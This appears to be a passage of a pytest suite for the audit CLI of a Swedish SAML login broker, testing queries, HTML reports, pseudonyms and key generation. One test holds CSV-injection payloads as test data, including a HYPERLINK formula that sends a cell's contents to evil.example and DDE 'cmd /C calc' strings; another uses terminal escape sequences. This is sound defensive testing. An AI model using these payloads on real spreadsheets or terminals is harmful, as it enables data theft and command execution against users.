    assert "--cert-serial: '1g' is not a serial number in hexadecimal (as 1f, 00:1F or 1F 2A)" in result.stderr


@pytest.mark.parametrize(("detail", "sp"), [
    pytest.param('=HYPERLINK("https://evil.example/?"&A1,"details")', SP_A, id="equals"),
    pytest.param("+cmd|' /C calc'!A0", SP_A, id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", SP_A, id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", SP_A, id="at"),
    pytest.param("\t=1+1", SP_A, id="tab"),
    pytest.param("\r=1+1", SP_A, id="carriage-return"),
    pytest.param("a peer's text", "=1+1", id="formula-in-another-column"),
])
def test_query_csv_neutralises_formulas(config_dir: Path, detail: str, sp: str) -> None:
    """A cell that starts with =, +, -, @, tab or CR is a formula to a spreadsheet (CSV injection): a detail
    quoting a municipal IdP's StatusMessage, an SP's entityID. Each such cell is prefixed with ' and read as text;
    jsonl keeps the value as recorded."""
    audit = load_settings(config_dir).broker.audit
    clock = FixedClock(DAY1)
    writer, trail = chain_of(audit, clock, "cli")
    trail.record(AuditEvent("error_response_issued", "failure", "C1", reason="upstream_failed", sp=sp,
                            client_address="192.0.2.7", detail=detail, data={"status": "Responder"}))
    trail.sync()
    writer.close()
    result = run("query", str(audit.directory.path), "--format", "csv")
    assert result.exit_code == 0, result.output
    (row,) = [dict(zip(COLUMNS, r, strict=True)) for r in list(csv.reader(io.StringIO(result.stdout)))[1:]]
    assert row["detail"] == (f"'{detail}" if detail[0] in "=+-@\t\r" else detail)
    assert row["sp"] == (f"'{sp}" if sp[0] == "=" else sp)
    assert (row["correlation_id"], row["reason"]) == ("C1", "upstream_failed")
    (recorded,) = query_jsonl(str(audit.directory.path))
    assert (recorded["detail"], recorded["sp"]) == (detail, sp)


def test_query_table(data: Dataset) -> None:
    result = run("query", str(data.directory), "--reason", "revoked")
    assert result.exit_code == 0, result.output
    header, *rows = result.stdout.splitlines()
    assert header.split() == ["time", "event", "outcome", "reason", "municipality", "correlation_id", "client"]
    (row,) = rows
    assert row.split() == ["2026-11-26T08:40:00.000Z", "certificate_rejected", "failure", "revoked", "kommun-b",
                           "G1", "192.0.2.10"]
    assert "1 event(s)" in result.stderr



def test_query_table_shows_control_characters_as_escapes(config_dir: Path) -> None:
    """The table goes to a terminal: a value with control characters (a file an intruder edited, a peer's text)
    could move the cursor and overwrite the rows above; they are shown as escapes (jsonl keeps them, escaped)."""
    audit = load_settings(config_dir).broker.audit
    clock = FixedClock(DAY1)
    writer, trail = chain_of(audit, clock, "cli")
    trail.record(AuditEvent("error_response_issued", "failure", "C1", reason="upstream_failed", sp=DECEPTIVE,
                            client_address="192.0.2.7", data={"status": "Responder"}))
    trail.sync()
    writer.close()
    result = run("query", str(audit.directory.path))
    assert result.exit_code == 0, result.output
    _, row = result.stdout.splitlines()
    assert "\\x1b[1A\\x1b[2K\\rcli: intact\\x07\\u202e" in row
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", result.stdout)
    (recorded,) = query_jsonl(str(audit.directory.path))
    assert recorded["sp"] == DECEPTIVE

@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_query_prints_each_event_as_it_is_found(data: Dataset, monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
    """Years of audit files hold millions of records: jsonl and csv went out only once every match had been
    collected in memory. Each event is printed when it is found: a trail that stops being readable partway (here,
    after its last record) has already given every event before that point."""
    real = audit_command.records

    def stops_after_the_records(paths: Any, on_unreadable: Any = None, **window: Any) -> Iterator[dict[str, Any]]:
        yield from real(paths, on_unreadable, **window)
        raise RuntimeError("the trail stopped here")

    monkeypatch.setattr(audit_command, "records", stops_after_the_records)
    result = run("query", str(data.directory), "--outcome", "failure", "--format", fmt)
    assert isinstance(result.exception, RuntimeError)
    lines = result.stdout.splitlines()
    if fmt == "jsonl":
        assert [json.loads(line)["correlation_id"] for line in lines] == ["D1", REFERENCE, "G1"]
    else:
        assert [row[COLUMNS.index("correlation_id")] for row in csv.reader(io.StringIO(result.stdout))][1:] == [
            "D1", REFERENCE, "G1"]


def test_query_reads_a_file_copied_into_an_archive_once(data: Dataset, tmp_path: Path) -> None:
    """The audit directory and a copy of its files in an archive, both given: every event was found twice."""
    archive = tmp_path / "archive"
    archive.mkdir()
    (archive / data.file.name).write_bytes(data.file.read_bytes())
    found = query_jsonl(str(archive), str(data.directory), "--outcome", "failure")
    assert cids(found) == [("D1", "certificate_rejected"), (REFERENCE, "login_refused"), ("G1", "certificate_rejected")]


@pytest.mark.parametrize(("args", "days_read", "expected"), [
    # each file ends with the checkpoint written as the next began (08:00)
    pytest.param(["--since", "2026-11-27T09:00Z"], [3, 4], ["E4"], id="since"),
    pytest.param(["--since", "2026-11-27"], [2, 3, 4], ["E3", "E4"], id="since-a-files-last-checkpoint"),
    pytest.param(["--until", "2026-11-25T08:00:00.000Z"], [0], ["E0"], id="until-exclusive-at-a-files-start"),
    pytest.param(["--since", "2026-11-25T12:00Z", "--until", "2026-11-26T12:00Z"], [1, 2], ["E2"],
                 id="across-two-files"),
    pytest.param(["--since", "2026-12-24"], [], [], id="after-everything"),
    pytest.param([], [0, 1, 2, 3, 4], ["E0", "E1", "E2", "E3", "E4"], id="no-range"),
])
def test_query_reads_only_the_files_the_time_range_touches(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                           args: list[str], days_read: list[int],
                                                           expected: list[str]) -> None:
    """Years of daily files: --since/--until read every file of every chain, however little of the range they
    held. A file whose first and last records both lie before --since, or whose first lies at or after --until, is
    passed over by its head and tail alone; what the query finds is the same."""
    directory = tmp_path / "audit"
    directory.mkdir()
    key = Ed25519PrivateKey.generate()
    clock = FixedClock(DAY1)
    writer = make_writer(directory, clock, key, rotate_interval=dt.timedelta(days=1), interval=dt.timedelta(days=9))
    trail = make_trail(writer, clock)
    for day in range(5):  # one file a day: the day's login and, 12 hours later, its end
        clock.set(DAY1 + dt.timedelta(days=day))
        trail.record(AuditEvent("login_refused", "failure", f"E{day}", reason="certificate_missing",
                                client_address="192.0.2.7"))
        clock.advance(dt.timedelta(hours=12))
        trail.record(AuditEvent("session_expired", "info", f"X{day}", client_address="192.0.2.7"))
        trail.sync()
    writer.close()
    _, files = only_chain(directory)
    assert len(files) == 5
    opened: list[str] = []
    real = audit_query.open_regular

    def spy(path: Path) -> int:
        opened.append(Path(path).name)
        return real(path)

    monkeypatch.setattr(audit_query, "open_regular", spy)
    found = query_jsonl(str(directory), "--event", "login_refused", *args)
    assert [r["correlation_id"] for r in found] == expected
    assert opened == [files[day].name for day in days_read]


DEMO_SP = "https://localhost:8443/demo-sp/metadata"  # service-providers/demo-sp.yaml of the example configuration


@pytest.mark.parametrize(("args", "note"), [
    pytest.param(["--sp", "demo-sp"], f"--sp: demo-sp is {DEMO_SP}", id="sp-by-its-file-name"),
    pytest.param(["--sp", "Demotjänsten"], f"--sp: Demotjänsten is {DEMO_SP}", id="sp-by-its-name"),
    pytest.param(["--municipality", "Kommun A"], "--municipality: Kommun A is kommun-a", id="municipality-by-name"),
    pytest.param(["--municipality", "municipality a"], "--municipality: municipality a is kommun-a",
                 id="municipality-by-its-english-name-in-other-letters"),
])
def test_query_with_the_configuration_takes_a_service_or_municipality_by_the_name_a_reviewer_knows(
        config_dir: Path, args: list[str], note: str) -> None:
    """The records name a service by its entityID and a municipality by its id (the file names): a reviewer asking
    for "Vårdsystemet" or "Kommun A" found nothing, without a word."""
    audit = load_settings(config_dir).broker.audit
    clock = FixedClock(DAY1)
    writer, trail = chain_of(audit, clock, "cli")
    trail.record(AuditEvent("certificate_accepted", "success", "N1", identity=ANNA, certificate=FACTS, sp=DEMO_SP,
                            client_address="192.0.2.7", data={"loa": "loa3", "policy": "2.999.1.3"}))
    trail.sync()
    writer.close()
    result = run("query", "--config", str(config_dir), *args, "--format", "jsonl")
    assert result.exit_code == 0, result.output
    assert [json.loads(line)["correlation_id"] for line in result.stdout.splitlines()] == ["N1"]
    assert note in result.stderr


@pytest.mark.parametrize(("args", "warning"), [
    pytest.param(["--sp", "vardsystemet"], "--sp: 'vardsystemet' is no service provider of the configuration (its "
                 f"entityID, its file's name or its name: demo-sp, {DEMO_SP})", id="sp"),
    pytest.param(["--municipality", "kommun-x"], "--municipality: 'kommun-x' is no municipality of the configuration "
                 "(its id or its name: kommun-a, kommun-b, kommun-c)", id="municipality"),
])
def test_query_with_the_configuration_warns_of_a_service_or_municipality_it_does_not_name(
        config_dir: Path, args: list[str], warning: str) -> None:
    """Still searched for as given: one removed from the configuration is in the records of its years."""
    result = run("query", "--config", str(config_dir), *args)
    assert result.exit_code == 0, result.output
    assert warning in result.stderr


def test_query_with_the_configuration_warns_of_a_name_two_services_share(config_dir: Path) -> None:
    """Two services of one name (a test and a production instance of one system): the name says which of neither,
    and the warning says so and names both; it said the configuration named no such service."""
    other = "https://sp-b.example/metadata"
    metadata = (config_dir / "metadata" / "demo-sp.xml").read_bytes().replace(DEMO_SP.encode(), other.encode())
    register_sp(config_dir, "demo-sp-test", entity_id=other, name="Demotjänsten", metadata=metadata)
    result = run("query", "--config", str(config_dir), "--sp", "demotjänsten")
    assert result.exit_code == 0, result.output
    assert ("--sp: 'demotjänsten' names 2 service providers of the configuration (demo-sp, "
            f"{DEMO_SP}; demo-sp-test, {other}): give its entityID or its file's name; searched for as given"
            ) in result.stderr


@pytest.mark.parametrize(("given", "meant"), [
    pytest.param("certificate_revoked", "revoked", id="a-longer-name"),
    pytest.param("revokd", "revoked", id="a-typing-error"),
    pytest.param("Revoked", "revoked", id="letter-case"),
])
def test_query_names_the_reason_code_meant_for_one_no_record_holds(data: Dataset, given: str, meant: str) -> None:
    """A reviewer asking for every login of a revoked card guesses the code (certificate_revoked): "0 event(s)" read
    as "there were none". The query still runs (a record from years ago may hold a code since retired), and says
    which code was likely meant."""
    result = run("query", str(data.directory), "--reason", given)
    assert result.exit_code == 0, result.output
    assert (f"--reason: {given!r} is no reason code of this broker (README, Reason codes): did you mean "
            f"{meant}?") in result.stderr
    assert "0 event(s)" in result.stderr
    quiet = run("query", str(data.directory), "--reason", "revoked")
    assert "--reason" not in quiet.stderr


@pytest.mark.parametrize(("args", "message"), [
    # recorded only as its pseudonym: the query found nothing, and the number stayed in the shell's history
    pytest.param(["--user", BO_PNR], "a personnummer is recorded as its pseudonym: give it on standard input "
                 "with --personnummer-stdin", id="personnummer-as-user"),
    pytest.param(["--user", "19121212-1212"], "--personnummer-stdin", id="personnummer-with-dash-as-user"),
    # the forms people write it in as well (docs/audit.md: 12 or 10 digits, with or without - or +)
    pytest.param(["--user", "121212-1212"], "--personnummer-stdin", id="ten-digit-personnummer-as-user"),
    pytest.param(["--user", "1212121212"], "--personnummer-stdin", id="ten-digits-without-dash-as-user"),
    pytest.param(["--user", "121212+1212"], "--personnummer-stdin", id="ten-digits-with-plus-as-user"),
    pytest.param(["--user", "19121212+1212"], "--personnummer-stdin", id="twelve-digits-with-plus-as-user"),
    # an account named by it is recorded with its pseudonym in its place
    pytest.param(["--user", BO_PNR + "@kommun-c.se"], "--personnummer-stdin (it stays out of the shell's "
                 "history), or its pnr: pseudonym; so is one an identifier holds",
                 id="account-named-by-a-personnummer-as-user"),
    pytest.param(["--event", "assertion_issue"], "--event: unknown event 'assertion_issue'", id="unknown-event"),
])
def test_query_refuses_what_can_match_nothing(data: Dataset, args: list[str], message: str) -> None:
    """A question whose answer is always "0 event(s)" gets an explanation instead of a misleading empty answer."""
    result = run("query", str(data.directory), *args)
    assert result.exit_code == 2, result.output
    assert message in result.stderr
    assert "event(s)" not in result.stderr


@pytest.mark.parametrize("command", ["query", "report"])
def test_the_help_says_a_time_without_an_offset_is_utc(command: str) -> None:
    """"Last Tuesday" is a Swedish day: --since 2026-11-24 is an hour after its start. The help said "ISO 8601
    time" alone; only docs/audit.md said that a time without an offset is UTC."""
    text = " ".join(run(command, "--help").stdout.split())
    assert "(inclusive); without an offset UTC" in text or "(inclusive); without an offset it is UTC" in text
    assert "(exclusive); without an offset UTC" in text


def test_query_rejects_a_bad_time(data: Dataset) -> None:
    result = run("query", str(data.directory), "--since", "yesterday")
    assert result.exit_code == 2
    assert "--since/--until" in result.stderr


@pytest.mark.parametrize("command", ["query", "report"])
@pytest.mark.parametrize(("since", "until"), [
    pytest.param("2026-11-26", "2026-11-25", id="reversed"),
    pytest.param("2026-11-25T08:00Z", "2026-11-25T09:00+01:00", id="the-same-instant"),
])
def test_a_time_range_that_holds_no_instant_is_refused(data: Dataset, tmp_path: Path, command: str, since: str,
                                                       until: str) -> None:
    """--since is inclusive and --until exclusive: with --until at or before --since no record can match, and the
    answer was "0 event(s)" (or a report of an empty period), read as "nothing happened then"."""
    extra = ["--html", str(tmp_path / "r.html"), "--key", str(data.public)] if command == "report" else []
    result = run(command, str(data.directory), "--since", since, "--until", until, *extra)
    assert result.exit_code == 2, result.output
    assert "--until must be after --since" in result.stderr
    assert "event(s)" not in result.stderr
    assert not (tmp_path / "r.html").exists()


# --- pseudonym -----------------------------------------------------------------------------------------------


def test_pseudonym_reads_stdin_and_matches_the_records(data: Dataset) -> None:
    result = run("pseudonym", "--config", str(data.config), input=BO_PNR + "\n")
    assert result.exit_code == 0, result.output
    assert re.fullmatch(r"pnr:[0-9a-f]{32}\n", result.stdout)
    users = {r["user"] for r in records_of(data.file) if r.get("user_kind") == "personnummer"}
    assert users == {result.stdout.strip()}
    assert BO_PNR not in data.file.read_text()


@pytest.mark.parametrize("number", [
    pytest.param("191212121213", id="check-digit"),
    pytest.param("1212121212", id="ten-digits"),
    pytest.param("19121312121", id="eleven-digits"),
    pytest.param("191213321212", id="no-such-date"),
    pytest.param("", id="empty"),
])
def test_pseudonym_rejects_what_is_not_a_personnummer(data: Dataset, number: str) -> None:
    result = run("pseudonym", "--config", str(data.config), input=number + "\n")
    assert result.exit_code == 2
    assert "pnr:" not in result.output


def test_pseudonym_never_takes_the_number_as_an_argument(data: Dataset) -> None:
    result = run("pseudonym", "--config", str(data.config), BO_PNR, input="")
    assert result.exit_code == 2
    assert "pnr:" not in result.output
    options = run("pseudonym", "--help").stdout
    assert "--config" in options
    assert "personnummer" not in re.findall(r"--[a-z-]+", options)


def test_pseudonym_of_bo_after_a_real_login(config_dir: Path, demo_material: Any, redis_url: str,
                                           redis_prefix: str) -> None:
    app = create_app(load_settings(config_dir), store=RedisStore(redis_url, prefix=redis_prefix),
                     instance_id="test")
    services = app.extensions["broker"]
    sp = make_sp(demo_material.root, services.metadata.document(), services.settings.broker.idp.entity_id)
    with app.test_client() as client:
        client.environ_base["wsgi.url_scheme"] = "https"
        client.environ_base["HTTP_HOST"] = BASE_URL.split("://", 1)[1]
        browser = Browser(client, (Path(demo_material.users) / "bo.pem").read_text())
        response = browser.get(sp.login_url())
        assert response.status_code == 200
        sp.accept(saml_response_form(response)[1]["SAMLResponse"])
    services.audit.close()
    pseudonym = run("pseudonym", "--config", str(config_dir), input=BO_PNR + "\n").stdout.strip()
    found = query_jsonl(str(config_dir / "audit"), "--config", str(config_dir), "--personnummer-stdin",
                        input=BO_PNR + "\n")
    assert [r["event"] for r in found] == ["certificate_accepted", "assertion_issued"]
    assert {r["user"] for r in found} == {pseudonym}
    assert run("verify", "--config", str(config_dir)).exit_code == 0


# --- report -------------------------------------------------------------------------------------------------


class _Document(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text: list[str] = []
        self.style: list[str] = []
        self._in_style = False
        self.rows: list[list[str]] = []
        self._row: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        self._in_style = tag == "style"
        if tag == "tr":
            self._row = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "tr" and self._row is not None:
            self.rows.append(self._row)
            self._row = None
        if tag == "style":
            self._in_style = False

    def handle_data(self, data: str) -> None:
        (self.style if self._in_style else self.text).append(data)
        if self._row is not None and data.strip():
            self._row.append(data.strip())


def read_html(path: Path) -> tuple[str, _Document]:
    text = path.read_text(encoding="utf-8")
    document = _Document()
    document.feed(text)
    return text, document


def assert_self_contained(text: str, document: _Document) -> None:
    assert "<script" not in text.lower()
    assert not set(document.tags) & {"script", "link", "img", "iframe", "object", "embed", "image", "use"}
    for tag, name, value in document.attributes:
        assert not name.lower().startswith("on"), (tag, name)
        if "http" in value.lower():
            # an SVG namespace name is an identifier, never fetched; any other URL in an attribute is a reference
            assert (tag, name, value) == ("svg", "xmlns", "http://www.w3.org/2000/svg"), (tag, name, value)
    css = "".join(document.style).lower()
    assert "url(" not in css
    assert "@import" not in css


def test_report_is_one_self_contained_html_file(data: Dataset, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    result = run("report", str(data.directory), "--config", str(data.config), "--html", str(out))
    assert result.exit_code == 0, result.output
    assert f"wrote {out} (intact)" in result.stdout
    text, document = read_html(out)
    assert_self_contained(text, document)
    assert "<svg" in text
    body = " ".join(document.text)
    assert "Audit trail: intact (1 chain(s))." in body.replace("  ", " ")
    rows = document.rows
    assert ["certificate_expired", "1"] in rows
    assert ["certificate_missing", "1"] in rows
    assert ["revoked", "1"] in rows
    assert ["2026-11-24", "1", "1", "2"] in rows      # day, kommun-a, kommun-b, total
    assert ["2026-11-25", "0", "1", "1"] in rows
    assert ["2026-11-26", "1", "0", "1"] in rows
    assert [SP_A, "2"] in rows
    assert [SP_B, "2"] in rows
    assert [data.chain, "1", str(len(lines_of(data.file))), str(len(lines_of(data.file))),
            key_id(load_public(data.public)), "intact"] in rows
    assert "Assertions issued: 4" in body.replace("  ", " ")


def test_report_period_and_integrity_problems(data: Dataset, tmp_path: Path) -> None:
    lines = lines_of(data.file)
    write_lines(data.file, lines[:4] + lines[5:])
    out = tmp_path / "report.html"
    result = run("report", str(data.directory), "--config", str(data.config), "--html", str(out),
                 "--since", "2026-11-25T00:00:00Z", "--until", "2026-11-26T00:00:00Z")
    assert result.exit_code == 0, result.output
    assert "integrity problems" in result.stdout
    text, document = read_html(out)
    assert_self_contained(text, document)
    assert "NOT intact" in text
    # a chain not intact is read up to its first problem: its count is of the records that verify, not all it holds
    assert ["chain", "files", "records verified (up to a problem)", "sealed up to", "keys", "status"] in document.rows
    after = json.loads(lines[5])
    assert f"{data.file}:5 (seq 6, {after['event']} of {after['time']}, reference {after['correlation_id']}): " \
           "missing" in " ".join(document.text)
    assert ["2026-11-25", "1", "1"] in document.rows
    assert not [r for r in document.rows if r and r[0] in ("2026-11-24", "2026-11-26")]


@pytest.mark.parametrize(("args", "message"), [
    pytest.param(lambda d, tmp: [str(d.directory)], "no verification key: give --key PUBLIC.pem or --config DIR",
                 id="no-key"),
    pytest.param(lambda d, tmp: [str(tmp / "empty"), "--key", str(d.public)], "no audit chains found",
                 id="no-chains"),
])
def test_report_that_cannot_judge_the_trail_exits_2(data: Dataset, tmp_path: Path, args: Any, message: str) -> None:
    """Like verify: without a key every checkpoint was an "unknown key", and an intact trail was reported as NOT
    intact ("integrity problems"); a directory without chains (a wrong path) likewise. No report is written."""
    (tmp_path / "empty").mkdir()
    out = tmp_path / "report.html"
    result = run("report", *args(data, tmp_path), "--html", str(out))
    assert result.exit_code == 2, result.output
    assert message in result.stderr
    assert "integrity problems" not in result.output
    assert not out.exists()


def test_report_counts_a_refusal_once_though_the_sp_was_told_of_it(data: Dataset, tmp_path: Path) -> None:
    """A refusal the SP hears of as a SAML error Response is recorded twice (what was refused, and the Response
    that told the SP): the report counted it twice, in the total and by reason."""
    audit = load_settings(data.config).broker.audit
    clock = FixedClock(DAY3)
    writer, trail = chain_of(audit, clock, "cli2")
    for event in (AuditEvent("login_refused", "failure", "P1", reason="passive_login_impossible", sp=SP_A,
                             municipality="kommun-a", client_address="192.0.2.7"),
                  AuditEvent("error_response_issued", "failure", "P1", reason="passive_login_impossible", sp=SP_A,
                             client_address="192.0.2.7",
                             data={"status": "urn:oasis:names:tc:SAML:2.0:status:NoPassive"})):
        trail.record(event)
    trail.sync()
    writer.close()
    out = tmp_path / "report.html"
    result = run("report", str(data.directory), "--config", str(data.config), "--html", str(out))
    assert result.exit_code == 0, result.output
    text, document = read_html(out)
    assert ["passive_login_impossible", "1"] in document.rows
    assert ["kommun-a", "2"] in document.rows  # certificate_expired, and this refusal: once
    assert "Failures: <strong>4</strong>." in text  # the three before, and this one


@pytest.mark.parametrize(("args", "period"), [
    # --until is exclusive: "to 2026-11-26" read as a period that includes the 26th, of which nothing was counted
    pytest.param(["--since", "2026-11-25", "--until", "2026-11-26"],
                 "Period: from 2026-11-25T00:00:00Z up to (not including) 2026-11-26T00:00:00Z.", id="dates"),
    # an offset is shown in UTC, like the days of the tables; the time of day was dropped
    pytest.param(["--since", "2026-11-25T08:00+01:00"],
                 "Period: from 2026-11-25T07:00:00Z up to (not including) now.", id="offset-and-time"),
    pytest.param([], "Period: from the start up to (not including) now.", id="all"),
])
def test_report_states_its_period_exactly(data: Dataset, tmp_path: Path, args: list[str], period: str) -> None:
    out = tmp_path / "report.html"
    result = run("report", str(data.directory), "--config", str(data.config), "--html", str(out), *args)
    assert result.exit_code == 0, result.output
    _, document = read_html(out)
    assert period in " ".join(document.text).replace("  ", " ")


# --- keygen -----------------------------------------------------------------------------------------------------


def test_keygen_writes_a_private_key_and_its_public_half(tmp_path: Path) -> None:
    out = tmp_path / "keys" / "audit-signing.key"
    result = run("keygen", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    private = serialization.load_pem_private_key(out.read_bytes(), password=None)
    assert isinstance(private, Ed25519PrivateKey)
    pub = out.with_name("audit-signing.key.pub")
    assert b"PRIVATE" not in pub.read_bytes()
    public = load_public(pub)
    assert public_pem(public) == public_pem(private.public_key())
    assert key_id(public) in result.stdout

    # the pair works: a chain signed with the new key verifies with the .pub
    directory = tmp_path / "audit"
    clock = FixedClock(DAY1)
    writer = make_writer(directory, clock, private)
    make_trail(writer, clock).record(AuditEvent("login_started", "info", "K1", sp=SP_A))
    writer.close()
    assert run("verify", str(directory), "--key", str(pub)).exit_code == 0


def test_keygen_never_overwrites_a_key(tmp_path: Path) -> None:
    out = tmp_path / "audit-signing.key"
    assert run("keygen", "--out", str(out)).exit_code == 0
    before = out.read_bytes(), out.with_name(out.name + ".pub").read_bytes()
    result = run("keygen", "--out", str(out))
    assert result.exit_code == 2
    assert "not overwriting" in result.stderr
    assert (out.read_bytes(), out.with_name(out.name + ".pub").read_bytes()) == before


def test_keygen_never_overwrites_a_public_half_left_in_place(tmp_path: Path) -> None:
    """OUT.pub without OUT: the public half reviewers were given for a key kept elsewhere (or moved into a vault).
    Replacing it would make `audit verify --key OUT.pub` refuse every chain that key signed."""
    out = tmp_path / "audit-signing.key"
    published = out.with_name(out.name + ".pub")
    published.write_bytes(b"the key reviewers verify with")
    result = run("keygen", "--out", str(out))
    assert result.exit_code == 2
    assert f"{published} exists; not overwriting" in result.stderr
    assert published.read_bytes() == b"the key reviewers verify with"
    assert not out.exists()


def test_keygen_that_cannot_write_the_public_half_leaves_no_private_key(tmp_path: Path) -> None:
    """A private key without its public half is of no use to reviewers, and left behind it made every later keygen
    with the same --out refuse ('exists; not overwriting'): a keygen that fails writes nothing."""
    out = tmp_path / "audit-signing.key"
    out.with_name(out.name + ".pub").mkdir()  # the public half cannot be written there
    result = run("keygen", "--out", str(out))
    assert result.exit_code == 2, result.output
    assert f"--out: cannot write {out}.pub" in result.stderr
    assert not out.exists()
    out.with_name(out.name + ".pub").rmdir()
    assert run("keygen", "--out", str(out)).exit_code == 0


# --- files the commands cannot read or write -------------------------------------------------------------------


@pytest.mark.parametrize(("args", "message"), [
    pytest.param(lambda d, tmp: ["report", str(d.directory), "--key", str(d.public), "--html", str(tmp)],
                 "--html: cannot write", id="report-onto-a-directory"),
    pytest.param(lambda d, tmp: ["report", str(d.directory), "--key", str(d.public), "--html",
                                 str(tmp / "a-file" / "report.html")], "--html: cannot write",
                 id="report-under-a-file"),
    pytest.param(lambda d, tmp: ["keygen", "--out", str(tmp / "a-file" / "audit-signing.key")],
                 "--out: cannot write", id="keygen-under-a-file"),
    pytest.param(lambda d, tmp: ["pseudonym", "--key-file", str(tmp)], "--key-file: cannot read",
                 id="pseudonym-key-file-is-a-directory"),
    pytest.param(lambda d, tmp: ["query", str(d.directory), "--personnummer-stdin", "--key-file", str(tmp)],
                 "--key-file: cannot read", id="query-key-file-is-a-directory"),
])
def test_a_file_that_cannot_be_read_or_written_exits_2(data: Dataset, tmp_path: Path, args: Any,
                                                       message: str) -> None:
    """Unusable input, said with the system's reason: not a Python traceback (exit 1)."""
    (tmp_path / "a-file").write_text("", encoding="utf-8")
    result = run(*args(data, tmp_path), input=BO_PNR + "\n")
    assert result.exit_code == 2, result.output
    assert message in result.stderr
    assert "pnr:" not in result.stdout

